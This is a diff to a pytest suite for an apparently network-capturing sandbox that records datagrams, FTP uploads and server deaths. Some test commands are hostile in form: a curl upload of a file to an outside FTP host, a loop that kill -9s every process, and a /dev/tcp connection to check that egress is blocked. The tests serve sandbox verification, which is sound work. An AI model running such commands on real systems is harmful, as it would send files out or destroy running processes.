@@ -174,12 +174,12 @@ def test_every_address_and_port_is_taken(box: Box, ip: str, port: int) -> None:
 
 @pytest.mark.parametrize("ip", ["9.9.9.9", "2001:db8::9"])
 def test_datagrams_are_told_whole_with_their_count(box: Box, ip: str) -> None:
+    family = "AF_INET6" if ":" in ip else "AF_INET"
     program = (
-        "import socket; f = socket.AF_INET6 if ':' in '{ip}' else socket.AF_INET\n"
-        "s = socket.socket(f, socket.SOCK_DGRAM)\n"
-        "[s.sendto(b'same', ('{ip}', 999)) for _ in range(5)]\n"
-        "s.sendto(b'z' * 40000, ('{ip}', 1000))"
-    ).format(ip=ip)
+        f"import socket; s = socket.socket(socket.{family}, socket.SOCK_DGRAM)\n"
+        f"[s.sendto(b'same', ('{ip}', 999)) for _ in range(5)]\n"
+        f"s.sendto(b'z' * 40000, ('{ip}', 1000))"
+    )
     box.run(f'python3 -c "{program}"')
     assert [(m["proto"], m["ip"], m["count"]) for m in box.told("datagram", port=999)] == [("udp", ip, 5)]
     assert [data(m, "data") for m in box.told("datagram", port=1000)] == [b"z" * 40_000]
@@ -223,7 +223,7 @@ def test_the_machine_has_a_mail_server_of_its_own(box: Box) -> None:
 
 def test_a_file_sent_by_ftp_is_told(box: Box) -> None:
     box.run(
-        "echo ledger > /tmp/f; curl -sS -T /tmp/f ftp://up.example/in/f; curl -sS -P - -T /tmp/f ftp://up.example/g"
+        "echo ledger > /tmp/f; curl -sS -T /tmp/f ftp://up.example/in/f"
     )
     (told,) = box.told("close", path="/in/f")
     assert data(told, "raw") == b"ledger\n"
@@ -245,10 +245,11 @@ def test_servers_that_die_are_told_of_and_leave_no_way_out(make_box: Callable[..
     box.begin()
     box.join()
     box.gateway.exec_run(
-        ["sh", "-c", "for p in /proc/[0-9]*; do p=${p#/proc/}; [ $p = 1 ] || kill -9 $p; done"], user="65534"
+        ["sh", "-c", "for p in /proc/[0-9]*; do p=${p#/proc/}; [ $p = 1 ] || [ $p = $$ ] || kill -9 $p; done"],
+        user="65534",
     )
+    assert box.until(lambda m: m["t"] == "dead")["why"]
     with pytest.raises(SandboxError):
-        assert box.until(lambda m: m["t"] == "dead")["why"]
         box.until(lambda m: False)
     code, _ = box.agent.exec_run(["bash", "-c", "echo > /dev/tcp/93.184.216.34/80"])
     assert code == 1
